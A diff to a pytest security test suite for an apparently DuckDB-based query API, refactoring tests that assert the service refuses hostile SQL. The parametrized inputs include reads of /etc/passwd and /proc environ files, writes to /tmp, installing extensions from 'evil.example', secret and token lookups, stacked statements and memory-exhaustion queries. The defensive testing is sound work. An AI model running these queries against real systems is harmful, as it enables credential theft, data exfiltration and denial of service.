@@ -24,40 +24,38 @@ def refusal_of(api: httpx.Client, query: str) -> str:
     return code
 
 
+def queries(*texts: str) -> pytest.MarkDecorator:
+    return pytest.mark.parametrize("query", texts)
+
+
 REFUSED = ("sql_not_allowed", "invalid_sql", "unknown_dataset")
 
 
 @attack(threat="A query reads a file of the machine", control=TREE, file=SQL)
-@pytest.mark.parametrize(
-    "query",
-    [
-        "SELECT * FROM read_csv('/etc/passwd')",
-        "SELECT * FROM read_text('/etc/passwd')",
-        "SELECT * FROM read_blob('/proc/self/environ')",
-        "SELECT * FROM '/etc/passwd'",
-        'SELECT * FROM "/etc/passwd"',
-        "SELECT * FROM '../../../etc/passwd.csv'",
-        "SELECT * FROM read_parquet('*.parquet')",
-        "SELECT * FROM glob('/**')",
-        "WITH x AS (FROM sniff_csv('/etc/passwd')) SELECT * FROM x",
-        "SELECT (SELECT content FROM read_text('/etc/passwd'))",
-        "SELECT * FROM parquet_metadata('/var/lib/ai-semble/x.parquet')",
-        "SELECT * FROM read_json_auto('/proc/1/environ')",
-    ],
+@queries(
+    "SELECT * FROM read_csv('/etc/passwd')",
+    "SELECT * FROM read_text('/etc/passwd')",
+    "SELECT * FROM read_blob('/proc/self/environ')",
+    "SELECT * FROM '/etc/passwd'",
+    'SELECT * FROM "/etc/passwd"',
+    "SELECT * FROM '../../../etc/passwd.csv'",
+    "SELECT * FROM read_parquet('*.parquet')",
+    "SELECT * FROM glob('/**')",
+    "WITH x AS (FROM sniff_csv('/etc/passwd')) SELECT * FROM x",
+    "SELECT (SELECT content FROM read_text('/etc/passwd'))",
+    "SELECT * FROM parquet_metadata('/var/lib/ai-semble/x.parquet')",
+    "SELECT * FROM read_json_auto('/proc/1/environ')",
 )
 def test_a_query_reads_no_file(api: httpx.Client, query: str) -> None:
     assert refusal_of(api, query) in REFUSED
 
 
 @attack(threat="A query writes a file", control="One SELECT and nothing else", file=SQL)
-@pytest.mark.parametrize(
-    "query",
-    [
-        "COPY input TO '/tmp/stolen.csv'",
-        "EXPORT DATABASE '/tmp/x'",
-        "ATTACH '/tmp/x.db'",
-        "CREATE TABLE t AS FROM input",
-    ],
+@queries(
+    "COPY input TO '/tmp/stolen.csv'",
+    "EXPORT DATABASE '/tmp/x'",
+    "ATTACH '/tmp/x.db'",
+    "CREATE TABLE t AS FROM input",
 )
 def test_a_query_writes_no_file(api: httpx.Client, query: str) -> None:
     assert refusal_of(api, query) in REFUSED
@@ -68,59 +66,48 @@ def test_a_query_writes_no_file(api: httpx.Client, query: str) -> None:
     control="No extension is loaded or installed; external access is off",
     file=CONNECTION,
 )
-@pytest.mark.parametrize(
-    "query",
-    [
-        "SELECT * FROM 'https://example.com/x.csv'",
-        "SELECT * FROM read_csv('s3://bucket/x.csv')",
-        "INSTALL httpfs",
-        "LOAD httpfs",
-        "INSTALL x FROM 'http://evil.example'",
-        "ATTACH 'postgres:host=10.0.0.1' AS p",
-        "SELECT * FROM postgres_scan('host=10.0.0.1', 'public', 't')",
-    ],
+@queries(
+    "SELECT * FROM 'https://example.com/x.csv'",
+    "SELECT * FROM read_csv('s3://bucket/x.csv')",
+    "INSTALL httpfs",
+    "LOAD httpfs",
+    "INSTALL x FROM 'http://evil.example'",
+    "ATTACH 'postgres:host=10.0.0.1' AS p",
+    "SELECT * FROM postgres_scan('host=10.0.0.1', 'public', 't')",
 )
 def test_a_query_opens_no_network(api: httpx.Client, query: str) -> None:
     assert refusal_of(api, query) in REFUSED
 
 
 @attack(threat="A query changes or reads settings and secrets", control=TREE, file=SQL)
-@pytest.mark.parametrize(
-    "query",
-    [
-        "SET enable_external_access = true",
-        "PRAGMA database_list",
-        "RESET ALL",
-        "SELECT current_setting('secret_directory')",
-        "SELECT getenv('AI_SEMBLE_TOKEN_FILE')",
-        "SELECT * FROM duckdb_settings()",
-        "SELECT * FROM duckdb_secrets()",
-        "SELECT * FROM duckdb_temporary_files()",
-        "SELECT * FROM information_schema.tables",
-        "SELECT getvariable('x')",
-        "CREATE PERSISTENT SECRET s (TYPE s3)",
-    ],
+@queries(
+    "SET enable_external_access = true",
+    "PRAGMA database_list",
+    "RESET ALL",
+    "SELECT current_setting('secret_directory')",
+    "SELECT getenv('AI_SEMBLE_TOKEN_FILE')",
+    "SELECT * FROM duckdb_settings()",
+    "SELECT * FROM duckdb_secrets()",
+    "SELECT * FROM duckdb_temporary_files()",
+    "SELECT * FROM information_schema.tables",
+    "SELECT getvariable('x')",
+    "CREATE PERSISTENT SECRET s (TYPE s3)",
 )
 def test_a_query_reads_and_changes_no_settings(api: httpx.Client, query: str) -> None:
     assert refusal_of(api, query) in REFUSED
 
 
 @attack(threat="A second statement behind a harmless one", control="There must be one statement", file=SQL)
-@pytest.mark.parametrize(
-    "query", ["SELECT 1; COPY input TO '/tmp/x'", "SELECT 1; SELECT 2", "SELECT 1 --\n; DROP TABLE x"]
-)
+@queries("SELECT 1; COPY input TO '/tmp/x'", "SELECT 1; SELECT 2", "SELECT 1 --\n; DROP TABLE x")
 def test_a_query_is_one_statement(api: httpx.Client, query: str) -> None:
     assert refusal_of(api, query) in REFUSED
 
 
 @attack(threat="SQL made by SQL", control=TREE, file=SQL)
-@pytest.mark.parametrize(
-    "query",
-    [
-        "SELECT * FROM query('SELECT 1')",
-        "SELECT * FROM query_table('input')",
-        "SELECT json_execute_serialized_sql('{}')",
-    ],
+@queries(
+    "SELECT * FROM query('SELECT 1')",
+    "SELECT * FROM query_table('input')",
+    "SELECT json_execute_serialized_sql('{}')",
 )
 def test_a_query_makes_no_other_query(api: httpx.Client, query: str) -> None:
     assert refusal_of(api, query) in REFUSED
@@ -144,14 +131,11 @@ def test_a_name_is_never_sql(api: httpx.Client) -> None:
     control="Limits of DuckDB and of the worker's process",
     file="containers/data-processor/src/data_processor/workers/sandbox.py",
 )
-@pytest.mark.parametrize(
-    "query",
-    [
-        "SELECT list(range) FROM range(2000000000)",
-        "SELECT repeat('x', 4000000000)",
-        "SELECT string_agg(repeat('x', 100000), '') FROM range(1000000)",
-        "SELECT range(3000000000)",
-    ],
+@queries(
+    "SELECT list(range) FROM range(2000000000)",
+    "SELECT repeat('x', 4000000000)",
+    "SELECT string_agg(repeat('x', 100000), '') FROM range(1000000)",
+    "SELECT range(3000000000)",
 )
 def test_a_query_takes_no_more_memory_than_it_may(api: httpx.Client, query: str) -> None:
     assert refusal_of(api, query) in ("memory_limit_exceeded", "computation_failed", "result_too_large")
